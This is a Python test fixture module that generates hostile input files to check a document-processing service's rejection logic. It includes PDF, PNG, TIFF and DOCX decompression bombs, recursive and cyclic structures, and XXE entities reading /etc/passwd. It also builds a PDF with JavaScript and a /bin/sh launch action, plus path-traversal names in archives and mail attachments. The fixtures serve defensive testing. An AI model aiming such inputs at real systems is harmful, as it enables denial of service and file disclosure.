"""Hostile files, built on the spot: lies, loops, bombs, scripts, and names that lead astray.

Each is small and harmless where it is read within limits. ``FILES`` maps a file name to how
its content is made and what must become of it; ``ANY`` where more than one outcome is right.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

from domain.reasons import Reason
from tests.ocr import samples

OK = None
ANY = "any"
_A4 = (595, 842)


@dataclass(frozen=True, slots=True)
class Hostile:
    """How a file is made, and its reason: ``OK`` if it is accepted, ``ANY`` if that may vary."""

    made: Callable[[], bytes]
    reason: Reason | str | None = ANY


def _saved(book: Pdf) -> bytes:
    target = io.BytesIO()
    book.save(target, static_id=True)
    return target.getvalue()


def _book(pages: int = 1) -> Pdf:
    book = pikepdf.new()
    for _ in range(pages):
        book.add_blank_page(page_size=_A4)
    return book


def _raw_pdf(*objects: bytes) -> bytes:
    """Return a PDF of objects numbered from 1, of which the first is the catalogue."""
    content, places = b"%PDF-1.7\n", []
    for number, item in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return content + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, table, size, len(content))
    )


def many_pages(pages: int = 10_000) -> bytes:
    kids = b" ".join([b"3 0 R"] * pages)
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def page_tree_cycle() -> bytes:
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 2/Kids[3 0 R]>>",
        b"<</Type/Pages/Count 2/Parent 2 0 R/Kids[2 0 R 2 0 R]>>",
    )


def deep_page_tree(depth: int = 3000) -> bytes:
    nodes = [
        b"<</Type/Pages/Count 1/Parent %d 0 R/Kids[%d 0 R]>>" % (number - 1, number + 1)
        for number in range(3, depth)
    ]
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        *nodes,
        b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (depth - 1),
    )


def deep_array(depth: int = 100_000) -> bytes:
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/X %s%s>>" % (b"[" * depth, b"]" * depth),
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def lying_count() -> bytes:
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def recursive_form() -> bytes:
    book = _book()
    form = book.make_stream(b"/F Do /F Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    book.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
    book.pages[0].Contents = book.make_stream(b"/F Do")
    return _saved(book)


def form_bomb(levels: int = 24) -> bytes:
    """Draw the same thing 10 to the power of ``levels`` times."""
    book = _book()
    form = book.make_stream(
        b"0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9]
    )
    for _ in range(levels):
        outer = book.make_stream(
            b"/F Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9]
        )
        outer.Resources = Dictionary(XObject=Dictionary(F=form))
        form = outer
    book.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
    book.pages[0].Contents = book.make_stream(b"/F Do")
    return _saved(book)


def _flate_bomb(size: int, *, times: int = 1) -> bytes:
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    content = b"".join(packer.compress(piece) for _ in range(size >> 20)) + packer.flush()
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    return content


def content_bomb(size: int = 2 << 30) -> bytes:
    book = _book()
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    book.pages[0].Contents = Stream(book, _flate_bomb(size, times=2), Filter=filters)
    return _saved(book)


def object_stream_bomb(size: int = 2 << 30) -> bytes:
    bomb = _flate_bomb(size, times=2)
    return _raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>"
        b"stream\n%s\nendstream" % (len(bomb), bomb),
    )


def image_bomb(side: int = 50_000) -> bytes:
    book = _book()
    image = Stream(
        book,
        zlib.compress(bytes(1 << 20), 9),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=side,
        Height=side,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
        Filter=Name.FlateDecode,
    )
    book.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
    book.pages[0].Contents = book.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    return _saved(book)


def lying_image() -> bytes:
    """An image of 10 by 10 pixels by its dictionary, of 9000 by 9000 in its stream."""
    book = _book()
    content = samples.saved(Image.new("L", (9000, 9000), 255), "JPEG")
    image = Stream(
        book,
        content,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=10,
        Height=10,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceGray,
        Filter=Name.DCTDecode,
    )
    book.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
    book.pages[0].Contents = book.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    return _saved(book)


def _program(book: Pdf) -> pikepdf.AttachedFileSpec:
    return pikepdf.AttachedFileSpec(
        book,
        b"MZ\x90\x00",
        description="",
        filename="passwd.exe",
        mime_type="application/x-msdownload",
        creation_date="",
        mod_date="",
    )


def scripted() -> bytes:
    """JavaScript, a program to launch, a form to send, a file inside, and XFA."""
    book = pikepdf.open(io.BytesIO(samples.text_pdf()))
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1); this.submitForm('http://x');"))
    launch = Dictionary(S=Name.Launch, F=String("/bin/sh"), NewWindow=True)
    book.Root.OpenAction = script
    book.Root.AA = Dictionary(WC=launch, DS=script)
    book.Root.AcroForm = Dictionary(
        Fields=Array(), XFA=book.make_stream(b"<xdp><script>app.alert(1)</script></xdp>")
    )
    book.pages[0].AA = Dictionary(O=launch)
    book.attachments["../../etc/passwd.exe"] = _program(book)
    return _saved(book)


def jpeg_sized(width: int, height: int) -> bytes:
    content = bytearray(samples.saved(Image.new("L", (64, 64), 255), "JPEG"))
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def _chunk(name: bytes, content: bytes) -> bytes:
    check = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)


def png_sized(width: int, height: int, *, mode: int = 0, content: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0)
    data = content or zlib.compress(bytes(1 << 20), 9)
    chunks = _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_text_bomb() -> bytes:
    plain = samples.saved(Image.new("L", (300, 300), 255), "PNG")
    comment = _chunk(b"zTXt", b"Comment\0\0" + _flate_bomb(512 << 20))
    return plain[:33] + comment + plain[33:]


def tiff_loop() -> bytes:
    """A directory that is its own successor."""
    content = bytearray(samples.scans(samples.bilevel(), name="TIFF"))
    (first,) = struct.unpack_from("<I", content, 4)
    (entries,) = struct.unpack_from("<H", content, first)
    struct.pack_into("<I", content, first + 2 + 12 * entries, first)
    return bytes(content)


def tiff_of_many(frames: int = 10_000) -> bytes:
    """One small frame after the other, all of them with the same strip."""
    entries = [(256, 1), (257, 1), (258, 1), (259, 1), (262, 1), (273, 8), (278, 1), (279, 1)]
    size = 2 + 12 * len(entries) + 4
    content = bytearray(b"II*\0" + struct.pack("<I", 16) + bytes(8))
    for number in range(frames):
        following = 16 + size * (number + 1) if number + 1 < frames else 0
        content += struct.pack("<H", len(entries))
        content += b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
        content += struct.pack("<I", following)
    return bytes(content)


def exif_loop() -> bytes:
    """EXIF data whose directory points at itself, as its own successor and as its own part."""
    entries = struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x0112, 3, 1, 99)
    tiff = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 2) + entries + struct.pack("<I", 8)
    return samples.saved(samples.picture(), "JPEG", exif=b"Exif\0\0" + tiff)


def zip_bomb_docx() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b"<w>")
            for _ in range(1 << 10):
                member.write(b" " * (1 << 20))
    return target.getvalue()


def entity_docx(*, external: bool) -> bytes:
    """Entities that name a file of the machine, or that multiply."""
    if external:
        entities, used = '<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"
    else:
        steps = [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)]
        entities, used = '<!ENTITY e0 "ha">' + "".join(steps), "&e11;"
    with zipfile.ZipFile(io.BytesIO(samples.docx())) as archive:
        members = {name: archive.read(name).decode() for name in archive.namelist()}
    text = members["word/document.xml"].replace(samples.LINES[0], f"Anfang {used} Ende")
    members["word/document.xml"] = f"<!DOCTYPE d [{entities}]>{text}"
    return samples.zipped(members)


def traversing_docx() -> bytes:
    with zipfile.ZipFile(io.BytesIO(samples.docx())) as archive:
        members = {name: archive.read(name).decode() for name in archive.namelist()}
    return samples.zipped({**members, "../../../../tmp/canary": "x", "/tmp/canary": "x"})  # noqa: S108 - never to be written


def traversing_mail() -> bytes:
    names = ("../../../etc/cron.d/x.txt", "C:\\Windows\\x.txt", "x\0y.txt", "/", "..", "a" * 5000)
    parts = [(name, "text/plain", b"Guten Tag") for name in names]
    return samples.mail(*parts).as_bytes()


def nested_mail(depth: int = 60) -> bytes:
    inner = samples.mail()
    for _ in range(depth):
        outer = EmailMessage()
        outer["From"], outer["To"], outer["Date"] = inner["From"], inner["To"], inner["Date"]
        outer.set_content("Weitergeleitet")
        outer.add_attachment(inner)
        inner = outer
    return inner.as_bytes()


def mail_of_parts(parts: int = 5000) -> bytes:
    head = b"From: a@example.org\nTo: b@example.org\nDate: x\nMIME-Version: 1.0\n"
    kind = b"Content-Type: multipart/mixed; boundary=z\n\n"
    part = b'--z\nContent-Type: text/plain\nContent-Disposition: attachment; filename="a"\n\nx\n'
    return head + kind + part * parts + b"--z--\n"


def polyglot(first: bytes, second: bytes) -> bytes:
    return first + b"\n" + second


FILES = {
    "jpeg-is-pdf.jpg": Hostile(samples.text_pdf, OK),
    "pdf-is-program.pdf": Hostile(lambda: b"MZ\x90\x00" + bytes(999), Reason.UNSUPPORTED_TYPE),
    "pdf-in-jpeg.pdf": Hostile(lambda: polyglot(samples.jpeg(), samples.text_pdf()), OK),
    "html-in-gif.txt": Hostile(lambda: b"GIF89a<script>alert(1)</script>" + bytes(99)),
    "zip-behind-pdf.pdf": Hostile(lambda: polyglot(samples.text_pdf(), samples.docx())),
    "pdf-behind-mail.eml": Hostile(
        lambda: b"From: a@example.org\nTo: b@example.org\nDate: x\n\n%PDF-1.7\n", OK
    ),
    "svg.svg": Hostile(
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        Reason.UNSUPPORTED_TYPE,
    ),
    "truncated.pdf": Hostile(lambda: samples.text_pdf()[:300], Reason.PDF_DAMAGED),
    "truncated.jpg": Hostile(lambda: samples.jpeg()[:4000], Reason.IMAGE_DAMAGED),
    "truncated.docx": Hostile(lambda: samples.docx()[:700], Reason.UNSUPPORTED_TYPE),
    "pages-10000.pdf": Hostile(many_pages, Reason.TOO_MANY_PAGES),
    "pages-cycle.pdf": Hostile(page_tree_cycle),
    "pages-deep.pdf": Hostile(deep_page_tree),
    "pages-lie.pdf": Hostile(lying_count),
    "array-deep.pdf": Hostile(deep_array),
    "form-recursive.pdf": Hostile(recursive_form),
    "bomb-form.pdf": Hostile(form_bomb),
    "bomb-content.pdf": Hostile(content_bomb),
    "bomb-objects.pdf": Hostile(object_stream_bomb),
    "bomb-image.pdf": Hostile(image_bomb, Reason.TOO_MANY_PIXELS),
    "image-lies.pdf": Hostile(lying_image),
    "scripts.pdf": Hostile(scripted, OK),
    "huge.jpg": Hostile(lambda: jpeg_sized(50_000, 50_000), Reason.TOO_MANY_PIXELS),
    "huge.png": Hostile(lambda: png_sized(50_000, 50_000), Reason.TOO_MANY_PIXELS),
    "huger.png": Hostile(lambda: png_sized(2**31 - 1, 2**31 - 1), Reason.TOO_MANY_PIXELS),
    "long.png": Hostile(lambda: png_sized(1, 60_000_000), Reason.TOO_MANY_PIXELS),
    "bomb.png": Hostile(lambda: png_sized(7000, 7000, content=_flate_bomb(1 << 30))),
    "bomb-text.png": Hostile(png_text_bomb),
    "loop.tif": Hostile(tiff_loop),
    "frames-10000.tif": Hostile(tiff_of_many, Reason.TOO_MANY_PAGES),
    "exif-loop.jpg": Hostile(exif_loop, OK),
    "bomb.docx": Hostile(zip_bomb_docx),
    "entities.docx": Hostile(lambda: entity_docx(external=False)),
    "file-entity.docx": Hostile(lambda: entity_docx(external=True)),
    "traversal.docx": Hostile(traversing_docx),
    "traversal.eml": Hostile(traversing_mail, OK),
    "nested.eml": Hostile(nested_mail),
    "parts-5000.eml": Hostile(mail_of_parts, Reason.TOO_MANY_PARTS),
    "zeros.bin": Hostile(lambda: bytes(100_000), Reason.UNSUPPORTED_TYPE),
    "empty.pdf": Hostile(lambda: b"", Reason.EMPTY),
}
